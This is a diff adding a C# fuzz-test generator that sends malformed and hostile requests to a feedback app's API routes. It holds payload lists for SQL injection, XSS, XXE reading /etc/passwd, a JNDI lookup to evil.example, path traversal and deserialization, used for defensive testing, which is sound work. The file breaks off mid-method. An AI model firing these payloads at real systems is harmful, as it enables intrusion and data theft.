@@ -1,0 +1,751 @@
+using System.Text;
+using System.Text.Encodings.Web;
+using System.Text.Json;
+
+namespace GamifyHub.Server.Tests.Fuzz;
+
+/// <summary>Who sends a fuzz request.</summary>
+public enum Caller { Anonymous, Integration, Ravi, Admin }
+
+/// <summary>
+/// One hostile request. <see cref="Route"/> is the route pattern it is aimed at (as the app's endpoint data source
+/// spells it), so the test can prove that every write route was fuzzed.
+/// </summary>
+public sealed record FuzzRequest(string Route, string Category, HttpMethod Method, string Url, byte[]? Body, string? ContentType,
+    Caller Caller, IReadOnlyList<KeyValuePair<string, string>> Headers, bool MaySucceedHarmlessly = false)
+{
+    public string Describe(int max = 160)
+    {
+        var body = Body is null ? "(no body)" : Printable(Encoding.UTF8.GetString(Body, 0, Math.Min(Body.Length, max * 4)), max)
+            + (Body.Length > max ? $"… ({Body.Length:N0} bytes)" : "");
+        var headers = Headers.Count == 0 ? "" : " " + string.Join(" ", Headers.Select(h => $"{h.Key}: {Printable(h.Value, 40)}"));
+        return $"{Method} {Printable(Url, 120)} [{Category}; {Caller}; {ContentType ?? "no content type"}{headers}] {body}";
+    }
+
+    public static string Printable(string text, int max)
+    {
+        var builder = new StringBuilder();
+        foreach (var c in text.Length > max ? text[..max] : text)
+        {
+            builder.Append(char.IsControl(c) || char.GetUnicodeCategory(c) is System.Globalization.UnicodeCategory.Format
+                ? $"\\u{(int)c:x4}" : c.ToString());
+        }
+
+        return text.Length > max ? builder + "…" : builder.ToString();
+    }
+}
+
+/// <summary>The real things a request may name: an item in Ravi's inbox and departments.</summary>
+public sealed record FuzzTargets(Guid Item, Guid RaviDepartment, Guid OtherDepartment);
+
+/// <summary>
+/// Deterministic generator of malformed or hostile requests for every write route. Every request made by
+/// <see cref="Malformed"/> is invalid by construction (exactly the thing the server must refuse), so any 2xx answer
+/// or state change is a server bug. <see cref="HostileButValid"/> are well-formed requests with hostile content.
+/// </summary>
+public sealed class HostileInputs(Random random, FuzzTargets targets)
+{
+    public const string Feedback = "/api/feedback";
+    public const string FeedbackBatch = "/api/feedback/batch";
+    public const string Actions = "/api/feedback/{id:guid}/actions";
+    public const string Events = "/api/events";
+    public const string EventsBatch = "/api/events/batch";
+    public const string Login = "/api/auth/login";
+    public const string Logout = "/api/auth/logout";
+    public const string ApiFallback = "/api/{*path:nonfile}";
+    public const string HubNegotiate = "/hubs/live/negotiate";
+    public const string Hub = "/hubs/live";
+    public const string HealthLive = "/health/live";
+    public const string HealthReady = "/health/ready";
+    public const string PageFallback = "/{*path:nonfile}";
+
+    public const string Password = "Demo-Pass-2026!";
+    public const string Ravi = "ravi.patel@demo.gamifyhub";
+    public const string Sofia = "sofia.rossi@demo.gamifyhub";
+    private const string Json = "application/json; charset=utf-8";
+
+    // ---------------------------------------------------------------- hostile values
+
+    public static readonly string[] Sql =
+    [
+        "'; DROP TABLE Events;--", "' OR '1'='1", "\" OR \"\"=\"", "1; DELETE FROM Awards", "Robert'); DROP TABLE FeedbackItems;--",
+        "' UNION SELECT KeyHash, Name FROM ApiKeys--", "1' AND sqlite_version() > 0 --", "%' OR 1=1 --",
+        "'; ATTACH DATABASE '/tmp/pwned.db' AS p;--", "'; UPDATE AspNetUsers SET LockoutEnd = NULL;--",
+    ];
+
+    public static readonly string[] Html =
+    [
+        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>alert(document.cookie)</script>",
+        "<iframe src=//evil.example>", "<scr<script>ipt>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
+        "${jndi:ldap://evil.example/a}", "<a href=\"javascript:alert(1)\">x</a>", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
+    ];
+
+    public static readonly string[] Control =
+    [
+        "\0", "a\0b", "\u0001\u0002\u0003", "\u0007bell", "line\r\nbreak", "\u001b[31mred\u001b[0m", "\u007f", "\u0085", "\t\t", "\u2028\u2029",
+    ];
+
+    public static readonly string[] LookAlike =
+    [
+        "re\u0430d", "\uff52\uff45\uff41\uff44", "re\u200dad", "\u202eread", "r\u00ebad", "re\u00adad", "READ", "Read", "read\ufeff", "\u017f", "\u212a",
+        "\u0130", "\u0131", "\U0001d42b\U0001d41e\U0001d41a\U0001d41d", "\u200b", "\u2060", "\u00a0",
+    ];
+
+    public static readonly string[] Odd =
+    [
+        "", " ", "   \t  ", "null", "undefined", "NaN", "Infinity", "-1", "0", "1e400", "99999999999999999999", "-99999999999999999999",
+        "%s%s%s%n", "{0}", "../../../../etc/passwd", "C:\\Windows\\win.ini", "\\\\evil\\share", "\U0001F600\U0001F389",
+        "\U0001F468\u200d\U0001F469\u200d\U0001F467", "\ufffd", "\uffff", "true", "[]", "{}",
+    ];
+
+    /// <summary>Raw JSON literals of the wrong type for fields that are all strings on the wire.</summary>
+    public static readonly string[] WrongTypes =
+    [
+        "1", "-1", "0", "-0", "1.5", "1e400", "-1e400", "99999999999999999999", "-99999999999999999999",
+        "123456789012345678901234567890", "true", "false", "[]", "{}", "[\"read\"]", "{\"value\":\"read\"}", "[[[[]]]]",
+        "{\"$type\":\"System.IO.FileInfo, System.IO\",\"fileName\":\"/etc/passwd\"}", "[null]", "{\"\":\"\"}", "1E+2", "-0.0e-0",
+    ];
+
+    /// <summary>Not JSON at all where a value belongs: the whole body cannot parse.</summary>
+    public static readonly string[] BrokenLiterals =
+    [
+        "NaN", "Infinity", "-Infinity", "undefined", "'read'", "0x1F", "01", "+1", ".5", "1.", "tru", "nul", "\"unterminated",
+        "\"bad \\x escape\"", "\"tab\there\"", "\"nul\u0000here\"", "\"\\u12\"", "\"\\ud800\"", "\"a\\udfffb\"", "\"\\uDC00\\uD800\"", "read",
+    ];
+
+    private static readonly string[] Channels =
+        ["facebook", "linkedin", "x", "xing", "youtube", "instagram", "appstore", "playstore", "blog", "email"];
+
+    private static readonly string[] BadChannels =
+    [
+        "Facebook", "FACEBOOK", "f\u0430cebook", "facebook ", " x", "\uff58", "x\u200b", "\u200bx", "faceb\u00adook", "facebook\u0000",
+        "myspace", "x,facebook", "*", "%", "facebook;--", "tw\u0456tter", "\u202ekoobecaf",
+    ];
+
+    private static readonly string[] BadActionTypes =
+    [
+        "READ", "Read", "r\u00ebad", "re\u0430d", "\uff52\uff45\uff41\uff44", "read\u200d", "\u200dread", "read\u0000", "re\u00adad", "\u202eread",
+        "read ", "  read", "read\n", "r e a d", "", "   ", "reads", "re-ad", "read,reply", "reply|read", "*", "1", "0", "-1",
+        "99999999999999999999", "1e400", "null", "undefined", "NaN", "true", "approve", "delete", "' OR '1'='1",
+        "'; DROP TABLE Events;--", "<script>alert(1)</script>", "%72ead", "Reply", "RESOLVE", "resolv\u0435", "\u0456nsight", "t\u0430g",
+    ];
+
+    private static readonly string[] InvisibleText =
+    [
+        "", " ", "\n\t ", "<b></b>", "<script></script>", "<p> </p>", "<br/>", "\u0000\u0001\u0002", "&nbsp;", "&#32;", "\u200b",
+        "\u200d\u200d", "\u202e", "\ufeff", "\u2060", "\u00a0\u2003", "<b>\u200b</b>", "&#8203;",
+    ];
+
+    private static readonly string[] BadUrls =
+    [
+        "ftp://example.com/a", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "not a url", "//evil.example/x", "/relative/path", "",
+        " ", "http://", "https://", "file:///etc/passwd", "data:text/html,<script>alert(1)</script>", "mailto:a@example.com",
+        "\uff48\uff54\uff54\uff50\uff53://example.com", "http ://x", "vbscript:msgbox(1)", "about:blank", "urn:isbn:0451450523",
+    ];
+
+    private static readonly string[] BadLanguages =
+        ["EN", "De", "en-US", "eng", "english", "\u0435n", "de\u200b", " en", "", "klingon", "'; DROP TABLE Events;--", "<script>alert(1)</script>", "fr"];
+
+    private static readonly string[] BadDates =
+    [
+        "yesterday", "2026-13-45T00:00:00Z", "2026-02-30", "", "  ", "'; DROP TABLE Events;--", "<script>", "\u0000", "99999999999999999999",
+        "1e400", "NaN", "Infinity", "0x10", "--", "now", "2026-01-01T25:61:61Z", "\u0662\u0660\u0662\u0666-01-01",
+    ];
+
+    private static readonly string[] FutureDates = ["2999-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2100-01-01"];
+
+    private static readonly string[] BadEmails =
+    [
+        "nobody@demo.gamifyhub", "r\u0430vi.patel@demo.gamifyhub", "ravi.patel@demo.gamifyhub\u200d", "ravi.patel@demo.gamifyhub\u0000",
+        "ravi.patel\uff20demo.gamifyhub", "\u017fofia.rossi@demo.gamifyhub", "ravi.patel@demo.gamifyhub.evil", "ravi.patel", "@",
+        "'; DROP TABLE Events;--", "<script>alert(1)</script>", "ravi.patel@demo.gamifyhub' OR '1'='1", "ravi.pate\u0142@demo.gamifyhub",
+        "\u202ebuhyfimag.omed@letap.ivar", "ravi.patel@demo.gamifyhub\n", "RAV\u0130.PATEL@DEMO.GAMIFYHUB", "rav\u0131.patel@demo.gamifyhub",
+        "\u017f\u006fFIA.ROSSI@DEMO.GAMIFYHUB",
+    ];
+
+    private static readonly string[] BadApiKeys =
+        ["demo-ingest-k\u0435y", "DEMO-INGEST-KEY", "", "' OR '1'='1", "<script>", "demo-ingest-key\u200b", "demo-ingest", "null", "ghk_0000"];
+
+    // ---------------------------------------------------------------- JSON helpers
+
+    private static readonly JsonSerializerOptions Strict = new();
+    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };
+
+    private T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];
+
+    private bool Chance(double p) => random.NextDouble() < p;
+
+    /// <summary>A JSON string literal; raw UTF-8 or \u-escaped at random. Lone surrogates become escapes.</summary>
+    private string S(string value)
+    {
+        if (value.Any(char.IsSurrogate) && !IsWellFormed(value))
+        {
+            var builder = new StringBuilder("\"");
+            foreach (var c in value)
+            {
+                builder.Append(c is '"' or '\\' || c < ' ' || char.IsSurrogate(c) ? $"\\u{(int)c:x4}" : c.ToString());
+            }
+
+            return builder.Append('"').ToString();
+        }
+
+        return JsonSerializer.Serialize(value, Chance(0.5) ? Relaxed : Strict);
+    }
+
+    private static bool IsWellFormed(string value)
+    {
+        for (var i = 0; i < value.Length; i++)
+        {
+            if (char.IsHighSurrogate(value[i]) && i + 1 < value.Length && char.IsLowSurrogate(value[i + 1]))
+            {
+                i++;
+            }
+            else if (char.IsSurrogate(value[i]))
+            {
+                return false;
+            }
+        }
+
+        return true;
+    }
+
+    private static string Obj(IEnumerable<(string Name, string? Literal)> fields) =>
+        "{" + string.Join(",", fields.Where(f => f.Literal is not null).Select(f => $"\"{f.Name}\":{f.Literal}")) + "}";
+
+    private string Long(int length) => new(Pick("aé<ж\u200d'"), length);
+
+    private string MegaByte() => Long(1_048_576);
+
+    private string AnyHostile() => random.Next(5) switch
+    {
+        0 => Pick(Sql),
+        1 => Pick(Html),
+        2 => Pick(Control),
+        3 => Pick(LookAlike),
+        _ => Pick(Odd),
+    };
+
+    /// <summary>A string that is fine for free-text fields (visible, not too long) but hostile.</summary>
+    private string HostileText() => random.Next(6) switch
+    {
+        0 => Pick(Sql),
+        1 => "Great app " + Pick(Html),
+        2 => "Cyrillic re\u0430d and fullwidth \uff52\uff45\uff41\uff44 \u202eright-to-left",
+        3 => "zero\u200dwidth\u200b joiners \U0001F468\u200d\U0001F469\u200d\U0001F467",
+        4 => "control \u0001\u0007 chars \u001b[31m",
+        _ => "The app crashes",
+    };
+
+    private string WrongType() => Pick(WrongTypes);
+
+    private string? Omit() => null;
+
+    private string? OneOf(params Func<string?>[] choices) => choices[random.Next(choices.Length)]();
+
+    private string NewGuid()
+    {
+        var bytes = new byte[16];
+        random.NextBytes(bytes);
+        return new Guid(bytes).ToString();
+    }
+
+    // ---------------------------------------------------------------- fields per endpoint
+
+    /// <summary>A field: a valid literal (null = left out) and an invalid one (null = left out, when that is invalid).</summary>
+    private sealed record Field(string Name, Func<string?> Valid, Func<string?> Invalid);
+
+    private IReadOnlyList<Field> FeedbackFields() =>
+    [
+        new("channel", () => S(Pick(Channels)),
+            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(BadChannels)), () => S(AnyHostile()))),
+        new("externalId", () => S(Chance(0.5) ? $"fz-{NewGuid()}" : Pick(Sql)),
+            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(new[] { "", "   ", "\t\n", "a\u0000b", "id\nnewline", "\u0007", "ok\u0085", "\u001b[2J" })),
+                () => S(Long(201)), () => S(Long(5_000)))),
+        new("author", () => Chance(0.3) ? null : S(Chance(0.5) ? "@kim" : HostileText()),
+            () => OneOf(WrongType, () => S(Long(201)), () => S(Long(20_000)))),
+        new("text", () => S(HostileText()),
+            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(InvisibleText)), () => S(Long(10_001)), () => S(Long(50_000)))),
+        new("url", () => Chance(0.5) ? null : S("https://example.com/p?q=1"),
+            () => OneOf(WrongType, () => S(Pick(BadUrls)), () => S("https://example.com/" + new string('a', 2_000)))),
+        new("language", () => Chance(0.5) ? null : S(Pick(new[] { "en", "de" })),
+            () => OneOf(WrongType, () => S(Pick(BadLanguages)))),
+        new("createdAt", () => Chance(0.5) ? null : S("2026-01-02T03:04:05Z"),
+            () => OneOf(WrongType, () => S(Pick(BadDates)))),
+    ];
+
+    private IReadOnlyList<Field> EventFields() =>
+    [
+        new("eventId", () => S(NewGuid()),
+            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(Sql)), () => S(BadGuid())), () => S(Long(100_000)))),
+        new("employee", () => S(Chance(0.5) ? Ravi : Sofia),
+            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(BadEmails)), () => S(""), () => S(Long(300)))),
+        new("type", () => S(Pick(new[] { "read", "reply", "tag", "insight", "resolve" })),
+            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(BadActionTypes)), () => S(Pick(new[] { "forward", "reopen" })))),
+        new("feedbackId", () => Chance(0.5) ? null : S(targets.Item.ToString()),
+            () => OneOf(WrongType, () => S(BadGuid()), () => S(Pick(Html)), () => S(""))),
+        new("occurredAt", () => Chance(0.5) ? null : S("2026-01-01T00:00:00Z"),
+            () => OneOf(WrongType, () => S(Pick(BadDates)), () => S(Pick(FutureDates)))),
+    ];
+
+    private IReadOnlyList<Field> LoginFields() =>
+    [
+        new("email", () => S(Ravi),
+            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(new[] { "", "   ", "\u0000" })), () => S(Pick(BadEmails)),
+                () => S(AnyHostile() + "@demo.gamifyhub"), () => S(Long(1_000)), () => S(MegaByte()))),
+        new("password", () => S(Password),
+            () => OneOf(Omit, () => "null", WrongType, () => S(""), () => S(Long(5_000)), () => S(MegaByte()))),
+    ];
+
+    /// <summary>Things that are not a GUID (or are the empty GUID), some of them very close to one.</summary>
+    private string BadGuid()
+    {
+        var guid = NewGuid();
+        return random.Next(10) switch
+        {
+            0 => "not-a-guid",
+            1 => Guid.Empty.ToString(),
+            2 => "g" + guid[1..],
+            3 => "\u0430" + guid[1..],
+            4 => guid + "0",
+            5 => guid[..^1],
+            6 => "{" + guid,
+            7 => string.Concat(guid.Select(c => char.IsAsciiDigit(c) ? (char)(c - '0' + '\uff10') : c)),
+            8 => guid.Replace('-', '\u2010'),
+            _ => AnyHostile(),
+        };
+    }
+
+    /// <summary>A valid-shaped object with exactly one (sometimes two) invalid fields.</summary>
+    private string InvalidObject(IReadOnlyList<Field> fields)
+    {
+        var bad = random.Next(fields.Count);
+        var alsoBad = Chance(0.2) ? random.Next(fields.Count) : -1;
+        return Obj(fields.Select((f, i) => (f.Name, i == bad || i == alsoBad ? f.Invalid() : f.Valid())));
+    }
+
+    private static string ValidObject(IReadOnlyList<Field> fields) => Obj(fields.Select(f => (f.Name, f.Valid())));
+
+    // ---------------------------------------------------------------- action bodies
+
+    private string ValidAction() => Pick(new[]
+    {
+        "{\"type\":\"read\"}", "{\"type\":\"reply\",\"text\":\"On it\"}", "{\"type\":\"tag\",\"text\":\"battery\"}",
+        $"{{\"type\":\"forward\",\"departmentId\":\"{targets.OtherDepartment}\",\"note\":\"yours\"}}",
+        "{\"type\":\"insight\",\"title\":\"Fix it\",\"url\":\"https://example.com/b/1\"}", "{\"type\":\"resolve\",\"note\":\"Done\"}",
+    });
+
+    /// <summary>An action body the server must refuse: bad type, missing or bad field for the type, or a refused action.</summary>
+    private string InvalidAction()
+    {
+        string BadText(int max) => OneOf(Omit, () => "null", WrongType, () => S(Pick(InvisibleText)), () => S(Long(max + 1)),
+            () => S(Long(max * 10))) ?? "__omit__";
+        string? Field(string name, string literal) => literal == "__omit__" ? null : $"\"{name}\":{literal}";
+        string Body(params string?[] fields) => "{" + string.Join(",", fields.Where(f => f is not null)) + "}";
+        string MaybeHostile(string name) => Chance(0.5) ? $"\"{name}\":{S(HostileText())}" : $"\"{name}\":{S("ok")}";
+
+        return random.Next(9) switch
+        {
+            0 or 1 => Body(Field("type", OneOf(Omit, () => "null", WrongType, () => S(Pick(BadActionTypes)), () => S(AnyHostile()))
+                                          is { } t ? t : "__omit__"), MaybeHostile("text"), Chance(0.3) ? MaybeHostile("note") : null),
+            2 => Body("\"type\":\"reply\"", Field("text", BadText(4_000)), Chance(0.5) ? MaybeHostile("note") : null),
+            3 => Body("\"type\":\"tag\"", Field("text", BadText(300))),
+            4 => random.Next(3) switch
+            {
+                0 => Body("\"type\":\"forward\"", Field("departmentId", OneOf(Omit, () => "null", WrongType, () => S(BadGuid()),
+                    () => S("department-" + targets.OtherDepartment)) ?? "__omit__"), MaybeHostile("note")),
+                1 => Body("\"type\":\"forward\"", $"\"departmentId\":{S(Pick(new[] { targets.RaviDepartment, Guid.Empty, Guid.Parse(NewGuid()) }).ToString())}",
+                    MaybeHostile("note")),
+                _ => Body("\"type\":\"forward\"", $"\"departmentId\":\"{targets.OtherDepartment}\"", Field("note",
+                    OneOf(WrongType, () => S(Long(4_001))) ?? "__omit__")),
+            },
+            5 => Chance(0.5)
+                ? Body("\"type\":\"insight\"", Field("title", BadText(300)), "\"url\":\"https://example.com/b/1\"")
+                : Body("\"type\":\"insight\"", MaybeHostile("title"), Field("url",
+                    OneOf(WrongType, () => S(Pick(BadUrls)), () => S("https://example.com/" + new string('u', 2_000))) ?? "__omit__")),
+            6 => Body("\"type\":\"resolve\"", Field("note", BadText(4_000))),
+            7 => Body("\"type\":\"reopen\"", Chance(0.5) ? MaybeHostile("note") : null), // the item is open: a conflict
+            _ => Body("\"type\":" + S(Pick(new[] { "read", "reply", "resolve" })),
+                $"\"{Pick(new[] { "text", "note", "title", "url", "departmentId" })}\":{WrongType()}"),
+        };
+    }
+
+    // ---------------------------------------------------------------- bodies that are not the right shape at all
+
+    /// <summary>Breaks a valid JSON body so that it cannot parse.</summary>
+    private string BreakJson(string valid)
+    {
+        var structural = new List<int>();
+        var inString = new List<int>();
+        var quoted = false;
+        for (var i = 0; i < valid.Length; i++)
+        {
+            var c = valid[i];
+            if (quoted)
+            {
+                if (c == '\\')
+                {
+                    i++;
+                }
+                else if (c == '"')
+                {
+                    quoted = false;
+                }
+                else
+                {
+                    inString.Add(i);
+                }
+            }
+            else if (c == '"')
+            {
+                quoted = true;
+            }
+            else if (c is '{' or '}' or '[' or ']' or ':' or ',')
+            {
+                structural.Add(i);
+            }
+        }
+
+        switch (random.Next(13))
+        {
+            case 0:
+                return valid[..random.Next(1, valid.Length)];
+            case 1:
+                var quotes = Enumerable.Range(0, valid.Length).Where(i => valid[i] == '"' && (i == 0 || valid[i - 1] != '\\')).ToList();
+                var q = Pick(quotes);
+                return valid.Remove(q, 1);
+            case 2:
+                var s = Pick(structural);
+                return valid[..s] + Pick(new[] { ";", "=", "#", "x", "\0", "'", ")", " " }) + valid[(s + 1)..];
+            case 3:
+                return valid + Pick(new[] { "}", "]", ",", " x", "{}", "\0", "//c", "/*c*/", valid, "\"", "null" });
+            case 4:
+                return Pick(new[] { ")]}',\n", "\0", "x", ",", "//c\n", "/*c*/", "\"", "'" }) + valid;
+            case 5:
+                return valid.Length > 2 ? valid[..^1] + ",}" : valid + ",";
+            case 6:
+                return valid.Replace('"', '\'');
+            case 7 when inString.Count > 0:
+                var p = Pick(inString);
+                return valid[..p] + Pick(new[] { "\u0001", "\n", "\t", "\r", "\0", "\u001f" }) + valid[p..];
+            case 8 when inString.Count > 0:
+                var e = Pick(inString);
+                return valid[..e] + Pick(new[] { "\\x41", "\\u12", "\\q", "\\", "\\u", "\\U0041", "\\ud800" }) + valid[e..];
+            case 9:
+                return System.Text.RegularExpressions.Regex.Replace(valid, "\"([A-Za-z]+)\":", "$1:");
+            case 10:
+                var at = Pick(structural);
+                return valid[..(at + 1)] + Pick(new[] { "/*x*/", "//x\n", "NaN,", "undefined,", "," }) + valid[(at + 1)..];
+            case 11:
+                return "[" + valid + "]";
+            default:
+                return valid[..^1] + "," + Pick(new[] { "\"x\"", "\"x\":", ":1", "\"x\":}", "1:2" }) + "}";
+        }
+    }
+
+    /// <summary>Whole bodies that are not the expected object: empty, scalars, arrays, deep nesting, garbage.</summary>
+    private byte[] WrongShapeBody()
+    {
+        switch (random.Next(16))
+        {
+            case 0: return [];
+            case 1: return Encoding.UTF8.GetBytes(Pick(new[] { " ", "\n\t ", "\r\n" }));
+            case 2: return Encoding.UTF8.GetBytes(Pick(new[] { "null", "true", "false", "0", "-1", "1e400", "99999999999999999999", "\"string\"" }));
+            case 3: return Encoding.UTF8.GetBytes(Pick(new[] { "[]", "[{}]", "{}", "[null]", "{\"\":null}", "[[[]]]" }));
+            case 4: return Encoding.UTF8.GetBytes(new string('[', 10_000) + new string(']', 10_000));
+            case 5: return Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000));
+            case 6: return Encoding.UTF8.GetBytes("{\"type\":" + new string('[', 10_000) + new string(']', 10_000) + "}");
+            case 7: return Encoding.UTF8.GetBytes(new string('[', 100_000));
+            case 8: return [0xEF, 0xBB, 0xBF];
+            case 9:
+                var garbage = new byte[random.Next(1, 300)];
+                random.NextBytes(garbage);
+                garbage[0] = (byte)Pick(new[] { 0x00, 0xFF, 0x80, (int)'x', (int)'<', (int)'%' });
+                return garbage;
+            case 10: return Encoding.UTF8.GetBytes("[" + string.Join(",", Enumerable.Repeat("1", 100_000)) + "]");
+            case 11: return Encoding.UTF8.GetBytes("\"" + new string('a', 1_048_576) + "\"");
+            case 12: return Encoding.UTF8.GetBytes(new string('{', 1_048_576));
+            case 13: return new byte[random.Next(1, 64)];
+            case 14: return Encoding.UTF8.GetBytes(Pick(new[] { "<xml/>", "email=a&password=b", "--boundary\r\n", "SELECT * FROM Events", "<script>alert(1)</script>" }));
+            default: return Encoding.UTF8.GetBytes(Pick(BrokenLiterals));
+        }
+    }
+
+    private static readonly byte[][] BadUtf8 =
+    [
+        [0xC3, 0x28], [0xA0, 0xA1], [0xE2, 0x28, 0xA1], [0xE2, 0x82, 0x28], [0xF0, 0x28, 0x8C, 0xBC], [0xF0, 0x90, 0x28, 0xBC],
+        [0xF8, 0xA1, 0xA1, 0xA1, 0xA1], [0xFC, 0xA1, 0xA1, 0xA1, 0xA1, 0xA1], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80],
+        [0xED, 0xBF, 0xBF], [0xFF], [0xFE], [0x80], [0xC3], [0xF4, 0x90, 0x80, 0x80], [0xC1, 0xBF],
+    ];
+
+    /// <summary>Splices an invalid UTF-8 sequence into a string value (or anywhere) of a valid body.</summary>
+    private byte[] InvalidUtf8(string valid)
+    {
+        var bytes = Encoding.UTF8.GetBytes(valid);
+        var quotes = Enumerable.Range(0, bytes.Length).Where(i => bytes[i] == (byte)'"').ToList();
+        var at = Chance(0.8) && quotes.Count > 1 ? quotes[random.Next(quotes.Count)] + 1 : random.Next(1, bytes.Length);
+        var bad = Pick(BadUtf8);
+        return [.. bytes[..at], .. bad, .. bytes[at..]];
+    }
+
+    // ---------------------------------------------------------------- requests
+
+    private static FuzzRequest Post(string route, string category, string url, byte[]? body, Caller caller,
+        string? contentType = Json, IReadOnlyList<KeyValuePair<string, string>>? headers = null, bool maySucceed = false) =>
+        new(route, category, HttpMethod.Post, url, body, contentType, caller, headers ?? [], maySucceed);
+
+    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);
+
+    private sealed record Target(string Route, string Url, Caller Caller, Func<string> Valid, Func<string> Invalid,
+        IReadOnlyList<Caller> Refused);
+
+    private IReadOnlyList<Target> Targets() =>
+    [
+        new(Feedback, "/api/feedback", Caller.Integration, () => ValidObject(FeedbackFields()), () => InvalidObject(FeedbackFields()),
+            [Caller.Anonymous, Caller.Ravi]),
+        new(FeedbackBatch, "/api/feedback/batch", Caller.Integration, () => Batch("items", FeedbackFields(), valid: true),
+            () => Batch("items", FeedbackFields(), valid: false), [Caller.Anonymous, Caller.Ravi]),
+        new(Actions, $"/api/feedback/{targets.Item}/actions", Caller.Ravi, ValidAction, InvalidAction,
+            [Caller.Anonymous, Caller.Integration, Caller.Admin]),
+        new(Events, "/api/events", Caller.Integration, () => ValidObject(EventFields()), () => InvalidObject(EventFields()),
+            [Caller.Anonymous, Caller.Ravi]),
+        new(EventsBatch, "/api/events/batch", Caller.Integration, () => Batch("events", EventFields(), valid: true),
+            () => Batch("events", EventFields(), valid: false), [Caller.Anonymous, Caller.Ravi]),
+        new(Login, "/api/auth/login", Caller.Anonymous, () => ValidObject(LoginFields()), () => InvalidObject(LoginFields()), []),
+    ];
+
+    private string Batch(string name, IReadOnlyList<Field> fields, bool valid)
+    {
+        var count = random.Next(1, 6);
+        if (valid)
+        {
+            return $"{{\"{name}\":[{string.Join(",", Enumerable.Range(0, count).Select(_ => ValidObject(fields)))}]}}";
+        }
+
+        var bad = random.Next(count);
+        return random.Next(10) switch
+        {
+            0 => "{" + (Chance(0.5) ? "" : $"\"{name}\":" + Pick(new[] { "null", "[]", "{}", "\"items\"", "1", "true", "[null]", "[[]]", "[1,2]" })) + "}",
+            1 => $"{{\"{name}\":[{string.Join(",", Enumerable.Range(0, 1_001).Select(_ => ValidObject(fields)))}]}}",
+            2 => $"{{\"{name}\":[{string.Join(",", Enumerable.Range(0, count).Select(i => i == bad ? Pick(new[] { "null", "1", "\"x\"", "[]", "[{}]" }) : ValidObject(fields)))}]}}",
+            3 => $"{{\"{name}\":{ValidObject(fields)}}}",
+            4 => $"[{ValidObject(fields)}]",
+            _ => $"{{\"{name}\":[{string.Join(",", Enumerable.Range(0, count).Select(i => i == bad ? InvalidObject(fields) : ValidObject(fields)))}]}}",
+        };
+    }
+
+    /// <summary>
+    /// <paramref name="count"/> requests that must all be refused with a 4xx problem and change nothing
+    /// (a few that ignore their body may succeed harmlessly: sign-out, health probes, the web page).
+    /// </summary>
+    public List<FuzzRequest> Malformed(int count)
+    {
+        var all = Targets();
+        var requests = new List<FuzzRequest>(count + 100);
+        while (requests.Count < count)
+        {
+            var roll = random.Next(100);
+            if (roll < 88)
+            {
+                requests.Add(ForTarget(Pick(all)));
+            }
+            else if (roll < 93)
+            {
+                requests.Add(UnknownRoute());
+            }
+            else if (roll < 96)
+            {
+                requests.Add(HostileActionPath());
+            }
+            else if (roll < 98)
+            {
+                requests.Add(Post(Logout, "sign-out", "/api/auth/logout", WrongShapeOrNull(), Chance(0.8) ? Caller.Anonymous : Caller.Ravi,
+                    maySucceed: true));
+            }
+            else
+            {
+                requests.Add(HubTransport());
+            }
+        }
+
+        // A few probes that answer any method without reading a body; they must stay harmless.
+        foreach (var route in new[] { HealthLive, HealthReady })
+        {
+            requests.Add(Post(route, "probe", route, Utf8(Pick(Sql)), Caller.Anonymous, maySucceed: true));
+        }
+
+        requests.Add(Post(PageFallback, "web page", "/" + Uri.EscapeDataString(Pick(Html)), Utf8("{}"), Caller.Anonymous, maySucceed: true));
+        return requests;
+    }
+
+    private byte[]? WrongShapeOrNull() => Chance(0.2) ? null : WrongShapeBody();
+
+    private FuzzRequest ForTarget(Target t)
+    {
+        var roll = random.Next(100);
+        if (roll < 35)
+        {
+            return Post(t.Route, "invalid field", t.Url, Utf8(t.Invalid()), t.Caller);
+        }
+
+        if (roll < 55)
+        {
+            return Post(t.Route, "broken JSON", t.Url, Utf8(BreakJson(t.Valid())), t.Caller);
+        }
+
+        if (roll < 67)
+        {
+            return Post(t.Route, "wrong shape", t.Url, WrongShapeBody(), t.Caller,
+                contentType: Chance(0.9) ? Json : Pick(new[] { "application/json", "application/problem+json" }));
+        }
+
+        if (roll < 77)
+        {
+            return Post(t.Route, "invalid UTF-8", t.Url, InvalidUtf8(t.Valid()), t.Caller);
+        }
+
+        if (roll < 87)
+        {
+            return WrongContentType(t);
+        }
+
+        return WrongCaller(t);
+    }
+
+    private FuzzRequest WrongContentType(Target t)
+    {
+        var valid = t.Valid();
+        var (type, body) = random.Next(15) switch
+        {
+            0 => ("text/plain", Utf8(valid)),
+            1 => ("text/plain; charset=utf-8", Utf8(valid)),
+            2 => ("application/x-www-form-urlencoded", Utf8("email=" + Uri.EscapeDataString(Ravi) + "&password=" + Uri.EscapeDataString(Password) + "&type=read")),
+            3 => ("multipart/form-data; boundary=xyz", Utf8($"--xyz\r\nContent-Disposition: form-data; name=\"json\"\r\n\r\n{valid}\r\n--xyz--\r\n")),
+            4 => ("application/xml", Utf8("<?xml version=\"1.0\"?><item><type>read</type></item>")),
+            5 => ((string?)null, Utf8(valid)),
+            6 => ("application/octet-stream", Utf8(valid)),
+            7 => ("text/json", Utf8(valid)),
+            8 => ("application/jsonx", Utf8(valid)),
+            9 => ("application/json; charset=klingon", Utf8(valid)),
+            10 => ("application/json; charset=utf-16", Utf8(valid)),
+            11 => ("application/json; charset=utf-32", Utf8(valid)),
